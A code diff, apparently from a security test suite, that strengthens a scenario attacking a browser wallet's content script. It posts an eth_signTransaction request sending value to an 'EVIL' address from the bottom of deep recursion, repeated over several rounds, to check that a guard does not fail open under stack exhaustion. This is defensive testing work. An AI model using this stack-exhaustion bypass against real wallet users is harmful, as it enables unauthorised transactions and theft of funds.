@@ -14,9 +14,7 @@ export default {
     const params = [{ from: a.USER, to: a.EVIL, value: '0x5' }];
     const rpc = { jsonrpc: '2.0', id: 4300, method: 'eth_signTransaction', params };
     const message = { target: 'metamask-contentscript', data: { name: 'metamask-provider', data: rpc } };
-    let tries = 0;
     const attempt = () => {
-      tries += 1;
       try {
         window.postMessage(message, location.origin);
       } catch {
@@ -28,16 +26,23 @@ export default {
         // As above.
       }
     };
+    let tries = 0;
     const dive = () => {
       try {
         dive();
       } catch {
         // The bottom.
       }
-      if (tries < 60) attempt();
+      tries += 1;
+      if (tries < 30) attempt();
     };
-    dive();
-    return tries;
+    for (let round = 0; round < 8; round += 1) {
+      tries = 0;
+      dive();
+      // With room again: a guard that broke down there must still judge, not wave through.
+      attempt();
+      await new Promise((resolve) => setTimeout(resolve));
+    }
   },
 
   async action(a, app) {
